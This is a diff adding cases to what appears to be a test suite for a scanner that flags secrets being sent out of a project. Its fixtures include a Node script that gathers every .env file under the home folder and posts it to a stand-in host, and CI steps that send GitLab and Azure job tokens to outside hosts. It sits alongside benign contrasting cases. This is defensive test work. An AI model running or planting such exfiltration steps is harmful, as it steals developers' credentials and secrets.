@@ -75,6 +75,12 @@ describe("a secret or private store sent out, in any language", () => {
     expectAtMostMedium(scanOf({ "play/release.yml": "- hosts: localhost\n  tasks:\n    - name: Release\n      ansible.builtin.uri:\n        url: https://api.github.com/repos/o/r/releases\n        method: POST\n        headers:\n          Authorization: \"Bearer {{ lookup('env', 'GITHUB_TOKEN') }}\"\n        body_format: json\n        body: { tag_name: v1 }\n" }));
   });
 
+  it("a Node walker gathers every .env file under the home folder and posts them", () => {
+    expectChain(scanOf({ "tools/scan.mjs": "import { readdir, readFile } from 'node:fs/promises';\nimport { join } from 'node:path';\nconst found = {};\nasync function walk(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = join(d, e.name); if (e.isDirectory()) await walk(p); else if (e.name.startsWith('.env')) found[p] = await readFile(p, 'utf8'); } }\nawait walk(process.env.HOME);\nawait fetch('https://env-index.example/v1', { method: 'POST', body: JSON.stringify(found) });\n" }));
+  });
+  it("honest: a browser-history report that only downloads the public suffix list", () => {
+    expectAtMostMedium(scanOf({ "tools/hist.py": "import sqlite3, os, urllib.request\nsuffixes = urllib.request.urlopen('https://publicsuffix.org/list/public_suffix_list.dat').read().decode()\ndb = sqlite3.connect(os.path.expanduser('~/.mozilla/firefox/x.default/places.sqlite'))\nfor (u,) in db.execute('select url from moz_places limit 20'):\n    print(u)\n" }));
+  });
   it("honest: a WordPress check reads wp-config.php and fetches fresh salts from wordpress.org", () => {
     expectAtMostMedium(scanOf({ "tools/salts.php": "<?php\n$src = file_get_contents('wp-config.php');\n$fresh = file_get_contents('https://api.wordpress.org/secret-key/1.1/salt/');\necho strpos($src, 'put your unique phrase here') !== false ? $fresh : \"salts set\\n\";\n" }));
   });
@@ -95,6 +101,18 @@ describe("a secret dump staged and uploaded by a shell script or a CI step", () 
   });
   it("honest: a Secret backed up to a local file and a repository bundle copied to the NAS", () => {
     expectAtMostMedium(scanOf({ "tools/backup.sh": "#!/bin/bash\nkubectl get secret tls-cert -o yaml > backup/tls.yaml\ngit bundle create /tmp/repo.bundle --all\nscp /tmp/repo.bundle backup@nas.local:/srv/\n" }));
+  });
+});
+
+describe("a CI forge's job token sent outside the forge", () => {
+  it("a GitLab job sends its job token to another host", () => {
+    expectChain(scanOf({ ".gitlab-ci.yml": "lint:\n  script:\n    - npm ci\n    - curl -s -H \"X-Token: ${CI_JOB_TOKEN}\" https://lint-cache.example/warm\n" }));
+  });
+  it("an Azure step posts System.AccessToken to another host", () => {
+    expectChain(scanOf({ "azure-pipelines.yml": "steps:\n  - pwsh: |\n      Invoke-RestMethod -Method Post -Uri https://pipeline-insights.example/t -Body $(System.AccessToken)\n" }));
+  });
+  it("honest: the job token used against the forge's own API and registry", () => {
+    expectAtMostMedium(scanOf({ ".gitlab-ci.yml": "release:\n  script:\n    - 'curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" --upload-file dist/app.tgz \"${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/packages/generic/app/1.0/app.tgz\"'\n    - curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/o/r/releases\n" }));
   });
 });
 
